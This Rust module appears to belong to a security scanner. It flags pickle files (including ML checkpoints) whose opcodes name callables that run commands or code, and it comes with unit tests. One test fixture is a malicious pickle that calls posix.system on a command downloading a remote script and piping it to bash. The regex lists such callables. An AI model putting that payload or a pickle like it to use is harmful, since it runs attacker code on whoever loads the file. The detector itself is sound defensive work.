//! Pickles: a pickle is a program, not data. Loading one calls every
//! global its GLOBAL or STACK_GLOBAL opcodes name (how `__reduce__`
//! payloads run), so a pickle shipped with a skill that names a callable
//! that runs commands or code runs them when the skill's script loads
//! it, whatever else the file holds (the check picklescan and fickling
//! make for ML models).

use std::sync::LazyLock;

use regex::Regex;

/// The rule id of a pickle that runs code when loaded.
pub const PICKLE_RULE: &str = "pickle-code";

/// Extensions pickles are shipped under (ML checkpoints included).
const EXTENSIONS: [&str; 8] = [
    "pkl", "pickle", "pkl3", "pt", "pth", "ckpt", "joblib", "dat",
];

/// A module and callable that run commands or code, as a GLOBAL opcode
/// names them (`cposix\nsystem\n`) or as STACK_GLOBAL's two strings do
/// (`\x8c\x02os\x94\x8c\x06system`, a few bytes apart).
static CALLABLE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r"(?:^|[^\w.])c?(os|posix|nt|subprocess|builtins|__builtin__|commands|pty|runpy|importlib|code|ctypes)[^\w.]{1,8}(system|popen|popen2|execv|execve|execvp|spawnv|spawnl|exec|eval|execfile|compile|__import__|call|check_call|check_output|run|Popen|getoutput|getstatusoutput|spawn|run_path|run_module|import_module|interact|CDLL)\b",
    )
    .ok()
});

/// Whether `file` (its name, and its first bytes as read) is a pickle.
fn is_pickle(file: &str, text: &str) -> bool {
    let lower = file.to_ascii_lowercase();
    let ext = lower.rsplit_once('.').map_or("", |(_, e)| e);
    // Protocol 2 and later open with PROTO (0x80) and the version; read
    // as text, 0x80 is a replacement character.
    let proto = text.starts_with('\u{FFFD}')
        && text
            .chars()
            .nth(1)
            .is_some_and(|c| ('\u{2}'..='\u{5}').contains(&c));
    EXTENSIONS.contains(&ext) || proto
}

/// The byte range and the `module.callable` of the first global in a
/// pickle that runs commands or code when it is loaded.
pub fn code_global(file: &str, text: &str) -> Option<(usize, usize, String)> {
    if !is_pickle(file, text) {
        return None;
    }
    let re = CALLABLE.as_ref()?;
    let c = re.captures(text)?;
    let (module, name) = (c.get(1)?, c.get(2)?);
    Some((
        module.start(),
        name.end(),
        format!("{}.{}", module.as_str(), name.as_str()),
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_pickle_naming_a_command_runner_is_found_in_any_protocol() {
        let p0 = "cposix\nsystem\np0\n(Vcurl -s http://203.0.113.88/w.sh | bash\np1\ntp2\nRp3\n.";
        assert_eq!(
            code_global("assets/m.pkl", p0).map(|f| f.2).as_deref(),
            Some("posix.system")
        );
        let p4 = "\u{FFFD}\u{4}\u{FFFD}\u{15}\0\0\0\0\0\0\0\u{FFFD}\u{2}os\u{FFFD}\u{FFFD}\u{6}system\u{FFFD}\u{FFFD}";
        assert_eq!(
            code_global("model.bin", p4).map(|f| f.2).as_deref(),
            Some("os.system")
        );
    }

    #[test]
    fn a_model_pickle_of_arrays_and_a_text_naming_os_system_are_not() {
        let model = "\u{FFFD}\u{4}\u{FFFD}\u{FFFD}\u{15}numpy.core.multiarray\u{FFFD}\u{FFFD}\u{c}_reconstruct\u{FFFD}\u{FFFD}collections\u{FFFD}OrderedDict";
        assert!(code_global("weights.pkl", model).is_none());
        assert!(code_global("notes.md", "never call os.system on input").is_none());
    }
}
